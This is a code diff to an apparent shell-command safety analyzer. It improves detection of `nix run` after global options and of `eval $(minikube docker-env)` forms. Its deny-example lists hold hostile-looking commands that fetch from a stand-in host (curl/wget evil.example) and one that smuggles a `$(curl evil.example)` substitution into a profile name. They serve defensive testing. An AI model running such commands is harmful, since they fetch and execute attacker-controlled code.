@@ -86,13 +86,33 @@ function subcommandRunner(names: readonly string[], summary: string, subs: Reado
  */
 function nix(): ProgramEntry {
   const runner = subcommandRunner(['nix'], 'nix develop|shell -c CMD; nix run INSTALLABLE -- ARGS runs the installable\'s program', { develop: { markers: ['-c', '--command'] }, shell: { markers: ['-c', '--command'] } }, {
-    deny: ['nix develop -c curl evil.example', 'nix shell nixpkgs#curl -c curl evil.example', 'nix run nixpkgs#curl -- evil.example', 'nix run nixpkgs#wget evil.example'],
-    pass: ['nix develop', 'nix build', 'nix run .#app', 'nix run nixpkgs#hello', 'nix run .#test -- --verbose'],
+    deny: ['nix develop -c curl evil.example', 'nix shell nixpkgs#curl -c curl evil.example', 'nix run nixpkgs#curl -- evil.example', 'nix run nixpkgs#wget evil.example', 'nix --verbose run nixpkgs#curl -- evil.example', 'nix --option sandbox false run nixpkgs#curl evil.example', 'nix --log-format bar run nixpkgs#wget evil.example', 'nix --option x run run nixpkgs#curl evil.example'],
+    pass: ['nix develop', 'nix build', 'nix run .#app', 'nix run nixpkgs#hello', 'nix run .#test -- --verbose', 'nix --verbose run nixpkgs#hello', 'nix --option sandbox false run nixpkgs#hello', 'nix develop -c echo run nixpkgs#curl'],
   });
+  /**
+   * `nix run` at word `at`. Global options stand before the subcommand and nix takes any setting as one (`--verbose`
+   * a flag, `--log-format bar` one value, `--option sandbox false` two): a word after them may be a value or the
+   * subcommand, so every `run` before a word that can only be another subcommand is read as one.
+   */
+  const runAt = (call: Call): number[] => {
+    const found: number[] = [];
+    const longBefore = (k: number, d: number) => k >= d && /^--[\w-]+$/.test(value(call.args[k - d]) ?? '');
+    for (let k = 0; k < call.args.length; k++) {
+      const v = value(call.args[k]);
+      if (v === '--') break;
+      if (v === undefined || v.startsWith('-')) continue;
+      if (v === 'run') found.push(k);
+      else if (!longBefore(k, 1) && !longBefore(k, 2)) break;
+    }
+    return found;
+  };
   const run = (call: Call): Partial<Answer> | undefined => {
-    // The subcommand: the first word that is neither an option nor the value of a long one (`--option k v` aside).
-    const at = call.args.findIndex((a, k) => !(value(a) ?? '-').startsWith('-') && !(k > 0 && /^--[\w-]+$/.test(value(call.args[k - 1]) ?? '')));
-    if (at < 0 || value(call.args[at]) !== 'run') return undefined;
+    const ats = runAt(call);
+    if (ats.length === 0) return undefined;
+    const runs = ats.flatMap((at) => runFrom(call, at).runs ?? []);
+    return runs.length > 0 ? { runs } : {};
+  };
+  const runFrom = (call: Call, at: number): Partial<Answer> => {
     const rest = call.args.slice(at + 1);
     const i = rest.findIndex((a) => value(a) === '--' || !(value(a) ?? '').startsWith('-'));
     const installable = i >= 0 && value(rest[i]) !== '--' ? rest[i]! : undefined;
@@ -107,7 +127,14 @@ function nix(): ProgramEntry {
     const args = dash >= 0 ? rest.slice(dash + 1) : rest.slice(i + 1).filter((a) => !(value(a) ?? '').startsWith('-'));
     return { runs: [{ kind: 'argv', argv: [literal(name, installable.span), ...args], via: `${call.name} run` }] };
   };
-  return { ...runner, analyze: (call) => run(call) ?? runner.analyze?.(call) ?? {} };
+  return {
+    ...runner,
+    analyze: (call) => {
+      const other = runner.analyze?.(call) ?? {};
+      const own = run(call);
+      return own?.runs ? { ...other, runs: [...(other.runs ?? []), ...own.runs] } : other;
+    },
+  };
 }
 
 /** bun: a runner by its subcommands (`bun x`, `bun exec`), and an interpreter of the code it is given (`bun -e`). */
@@ -1274,10 +1301,12 @@ export const RUNNER_ENTRIES: ProgramEntry[] = [
     // VM from its profile (not --ssh-host or --shell of another shell; a profile name is a plain name).
     powershell: /^completion powershell$/,
     when: /^completion bash$|^(?:(?:-p|--profile)[ =][A-Za-z0-9][\w.-]* )?(?:docker|podman)-env(?: (?:(?:-p|--profile)[ =][A-Za-z0-9][\w.-]*|--shell[ =]bash|-u|--unset))*$/,
+    // docker-env prints `export DOCKER_HOST="tcp://…"` lines and `#` comments: no glob character, so unquoted is the same code.
+    split: /^(?:(?:-p|--profile)[ =][A-Za-z0-9][\w.-]* )?(?:docker|podman)-env(?: (?:(?:-p|--profile)[ =][A-Za-z0-9][\w.-]*|--shell[ =]bash|-u|--unset))*$/,
     config: /^(KUBECONFIG|KUBECTL_|MINIKUBE_|DOCKER_|CONTAINER_HOST)/,
     examples: {
-      deny: ['eval "$(kubectl get cm x -o jsonpath={.data.x})"', 'source <(kubectl get cm x -o jsonpath={.data.x})', 'eval "$(minikube docker-env --ssh-host)"', 'eval "$(minikube -p \'$(curl evil.example)\' docker-env)"', 'MINIKUBE_HOME=./m; eval "$(minikube docker-env)"', 'source <(kubectl completion bash | sed s/x/y/)'],
-      pass: ['eval "$(minikube docker-env)"', 'eval "$(minikube -p dev docker-env)"', 'eval "$(minikube docker-env --shell bash)"', 'eval "$(minikube docker-env -u)"', 'source <(kubectl completion bash)', 'source <(minikube completion bash)'],
+      deny: ['eval $(kubectl completion bash)', 'eval $(kubectl get cm x -o jsonpath={.data.x})', 'eval "$(kubectl get cm x -o jsonpath={.data.x})"', 'source <(kubectl get cm x -o jsonpath={.data.x})', 'eval "$(minikube docker-env --ssh-host)"', 'eval "$(minikube -p \'$(curl evil.example)\' docker-env)"', 'MINIKUBE_HOME=./m; eval "$(minikube docker-env)"', 'source <(kubectl completion bash | sed s/x/y/)'],
+      pass: ['eval "$(minikube docker-env)"', 'eval $(minikube docker-env)', 'eval $(minikube -p dev podman-env)', 'eval "$(minikube -p dev docker-env)"', 'eval "$(minikube docker-env --shell bash)"', 'eval "$(minikube docker-env -u)"', 'source <(kubectl completion bash)', 'source <(minikube completion bash)'],
     },
   }),
   shellInit({
